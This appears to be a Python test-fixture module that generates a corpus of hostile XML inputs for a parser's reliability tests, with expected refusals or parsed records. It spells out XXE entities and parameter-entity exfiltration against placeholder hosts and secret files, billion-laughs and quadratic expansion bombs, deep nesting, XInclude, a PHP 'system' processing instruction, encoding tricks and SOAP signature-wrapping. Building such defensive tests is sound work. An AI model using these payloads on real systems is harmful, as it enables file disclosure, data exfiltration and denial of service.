"""Hostile XML as data (reliability.md C4): 13 classes of 8 documents each.

A document is (octets, what is expected): None for a refusal, else what its records must be. `TRAP` stands for an address
that counts connections, `SECRET` for a file that nobody may open.
"""

SOAP = "http://schemas.xmlsoap.org/soap/envelope/"


def _letter(number, inside=""):
    return (
        f'<s:Envelope xmlns:s="{SOAP}"><s:Body><Found xmlns="urn:x"><LetterNo>{number}</LetterNo>{inside}</Found>'
        f"</s:Body></s:Envelope>"
    )


def _found(number, **more):
    return {"Body": {"Found": {"LetterNo": number, **more}}}


def internal_entity(seed):
    places = ("<a>&e;</a>", '<a b="&e;"/>', "<a><b>&e;&e;</b></a>", "<a>x&e;y</a>")
    blanks = "\n \t"[: seed % 3]
    return f'{blanks}<!DOCTYPE a [<!ENTITY e "12345">]>{places[seed % 4]}', None


def external_entity(seed):
    target = ("file://SECRET", "SECRET", "http://TRAP/e", "ftp://TRAP/e", "//TRAP/e", "https://TRAP/e",
              "file://localhost/SECRET", "http://TRAP/a b")[seed]  # fmt: skip
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "{target}">]><a>&e;</a>', None


def parameter_entity(seed):
    target = ("http://TRAP/p.dtd", "file://SECRET")[seed % 2]
    after = ("%p;", "%p;%q;", '<!ENTITY % q "%p;">', "<!ENTITY &#x25; r SYSTEM 'http://TRAP/?%p;'>")[seed // 2]
    return f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{target}">{after}]><a/>', None


def dtd_fetch(seed):
    before = ("", "<!-- c -->", "<?pi x?>", "\n", "<!-- <a/> -->", "<?p <a/> ?>", "<!-- a --><?b?>\n", "\ufeff")[seed]
    where = ('SYSTEM "http://TRAP/a.dtd"', 'PUBLIC "-//X//Y" "http://TRAP/b.dtd"', 'SYSTEM "file://SECRET"')[seed % 3]
    return f"{before}<!DOCTYPE a {where}><a/>", None


def billion_laughs(seed):
    levels = 6 + seed
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels))
    use = (f"<a>&e{levels - 1};</a>", f'<a b="&e{levels - 1};"/>')[seed % 2]
    return f'<!DOCTYPE a [<!ENTITY e0 "ha">{lines}]>{use}', None


def quadratic(seed):
    size = 1000 * (seed + 1)
    return f'<!DOCTYPE a [<!ENTITY e "{"x" * size}">]><a>{"&e;" * size}</a>', None


def deep_nesting(seed):
    depth = (33, 40, 100, 255, 257, 2000, 5000, 9000)[seed]
    return "<a>" * depth + "</a>" * depth, None


def xinclude(seed):
    target = ("file://SECRET", "http://TRAP/x.xml", "SECRET", "http://TRAP/x#xpointer(/)")[seed % 4]
    parse = ("xml", "text")[seed // 4]
    inside = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{target}" parse="{parse}"/>'
    return _letter("12345", inside), _found("12345", include={"@href": target, "@parse": parse})


def wrong_namespace(seed):
    """Names count without their namespace; a second number from another one makes both no number."""
    twin = f'<y:LetterNo xmlns:y="urn:{seed}">54321</y:LetterNo>'
    return _letter("12345", twin), {"Body": {"Found": {"LetterNo": ["12345", "54321"]}}}


def cdata(seed):
    inside = (
        "12345",
        "<!DOCTYPE a>",
        "&e;",
        "<x/>",
        "<!ENTITY e SYSTEM 'http://TRAP/'>",
        "]]]]><![CDATA[>",
        "",
        " 1 ",
    )[seed]
    said = {5: "]]>", 7: "1"}.get(seed, inside)
    return _letter("1", f"<Word><![CDATA[{inside}]]></Word>"), _found("1", Word=said)


def processing_instruction(seed):
    target = (
        '<?xml-stylesheet type="text/xsl" href="http://TRAP/x.xsl"?>',
        '<?xml-stylesheet href="file://SECRET"?>',
        "<?php system('id'); ?>",
        '<?oasis-xml-catalog catalog="http://TRAP/catalog.xml"?>',
        '<?xml-model href="http://TRAP/x.rng"?>',
        "<?a?>" * 100,
        "<?a <!DOCTYPE b> ?>",
        '<?import namespace="x" implementation="http://TRAP/"?>',
    )[seed]
    return f"{target}{_letter('12345', target)}", _found("12345")


def encoding_lies(seed):
    """(octets, expected): what says one encoding and is another."""
    text = _letter("12345", "<W>نامه</W>")
    hidden = '<!DOCTYPE a [<!ENTITY e SYSTEM "http://TRAP/">]><a>&e;</a>'
    return (
        (b'<?xml version="1.0" encoding="utf-16"?>' + text.encode("utf-8"), None),
        (b'<?xml version="1.0" encoding="utf-7"?>' + hidden.encode("utf-7"), None),
        (
            b"\xef\xbb\xbf" + b'<?xml version="1.0" encoding="windows-1256"?>' + text.encode("windows-1256", "ignore"),
            None,
        ),
        (b'<?xml version="1.0" encoding="utf-8"?>' + text.encode("windows-1256", "ignore"), None),
        (b"\xff\xfe" + hidden.encode("utf-16-le"), None),
        (hidden.encode("utf-16-be"), None),
        (b'<?xml version="1.0" encoding="IBM037"?>' + hidden.encode("cp037"), None),
        (text.encode("utf-8") + b"\xc0\xaf", None),
    )[seed]


def signature_wrapping(seed):
    """No signature is believed: what counts is one Body in its place, and any other arrangement is refused."""
    moved = _letter("12345")[len(f'<s:Envelope xmlns:s="{SOAP}">') : -len("</s:Envelope>")]
    evil = moved.replace("12345", "54321")
    inside = (
        f"<s:Header>{moved}</s:Header>{evil}",
        f"{moved}{evil}",
        f"<s:Header/>{moved}{evil}",
        f"<w:Wrap xmlns:w='urn:w'>{moved}</w:Wrap>{evil}",
        f"{evil}<s:Header>{moved}</s:Header>",
        f"<s:Header><Object Id='x'>{moved}</Object></s:Header>{evil}",
        f"<s:Header>{moved}{moved}</s:Header>",
        f"<s:Body>{evil}</s:Body>",
    )[seed]
    said = _found("54321")["Body"]
    in_place = {0: said, 5: said, 7: {"Body": said}}
    return f'<s:Envelope xmlns:s="{SOAP}">{inside}</s:Envelope>', {"in place": in_place.get(seed)}


CLASSES = [
    internal_entity, external_entity, parameter_entity, dtd_fetch, billion_laughs, quadratic, deep_nesting, xinclude,
    wrong_namespace, cdata, processing_instruction, encoding_lies, signature_wrapping,
]  # fmt: skip
CORPUS = [(each.__name__, seed, *each(seed)) for each in CLASSES for seed in range(8)]
